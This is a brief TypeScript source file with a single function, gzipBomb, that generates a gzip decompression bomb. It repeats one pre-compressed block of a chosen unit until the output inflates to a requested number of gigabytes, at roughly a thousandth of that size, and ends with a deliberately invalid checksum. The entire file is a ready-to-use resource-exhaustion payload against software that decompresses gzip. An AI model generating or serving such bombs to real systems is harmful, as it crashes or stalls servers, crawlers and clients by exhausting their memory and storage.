import { constants, deflateRawSync } from "node:zlib";

const BLOCK_BYTES = 2 ** 26;
const HEADER = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);

/**
 * A gzip file of `start` and then `gigabytes` of one repeated unit, a thousandth of that in size. One block is packed once and stands
 * there as often as needed. The checksum at the end is wrong: whoever reads so far has read too much.
 */
export function gzipBomb(start: string, unit: string, gigabytes: number): Buffer {
  const flush = { finishFlush: constants.Z_FULL_FLUSH };
  const block = deflateRawSync(Buffer.from(unit.repeat(Math.floor(BLOCK_BYTES / unit.length))), flush);
  const blocks = Array.from({ length: Math.ceil((gigabytes * 2 ** 30) / BLOCK_BYTES) }, () => block);
  return Buffer.concat([
    HEADER,
    deflateRawSync(Buffer.from(start), flush),
    ...blocks,
    Buffer.from([3, 0]),
    Buffer.alloc(8),
  ]);
}
